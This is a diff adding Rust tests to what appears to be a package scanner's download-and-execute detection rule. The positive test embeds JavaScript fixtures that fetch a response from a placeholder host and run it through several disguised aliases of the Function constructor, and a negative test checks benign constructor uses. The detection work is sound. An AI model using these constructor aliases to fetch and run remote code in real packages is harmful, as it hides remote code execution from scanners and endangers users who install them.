@@ -375,4 +375,41 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             vec![("b.js".to_string(), 3)]
         );
     }
+
+    /// The `Function` constructor reached without its name: `Function.constructor`,
+    /// `[].constructor.constructor`, `''.constructor.constructor`, `(() => {}).constructor`,
+    /// `Object.getPrototypeOf(async function () {}).constructor`: each runs a response.
+    #[test]
+    fn positive_function_constructor_aliases() {
+        for ctor in [
+            "new (Function.constructor)",
+            "[].constructor.constructor",
+            "''['constructor']['constructor']",
+            "(() => {}).constructor",
+            "Object.getPrototypeOf(async function () {}).constructor",
+        ] {
+            let src = format!(
+                "const axios = require('axios');\nasync function load() {{\n  const res = await axios.get('https://cfg.example.net/v1');\n  const run = {ctor}('require', res.data.cookie);\n  run(require);\n}}\nload();\n"
+            );
+            let s = scan(&[("package.json", PJ), ("index.js", &src)]);
+            assert_eq!(
+                hits(&s, "code/download-exec"),
+                vec![("index.js".to_string(), 4)],
+                "{ctor}"
+            );
+        }
+    }
+
+    /// Constructor checks and a constructor of an unknown value are not code.
+    #[test]
+    fn negative_constructor_checks() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const axios = require('axios');\nasync function load(v) {\n  const res = await axios.get('https://cfg.example.net/v1');\n  if (res.data.constructor === Object) return new res.data.constructor(res.data);\n  return [].constructor.isArray(res.data) ? v.constructor(res.data) : null;\n}\nmodule.exports = load;\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/download-exec"), vec![]);
+    }
 }
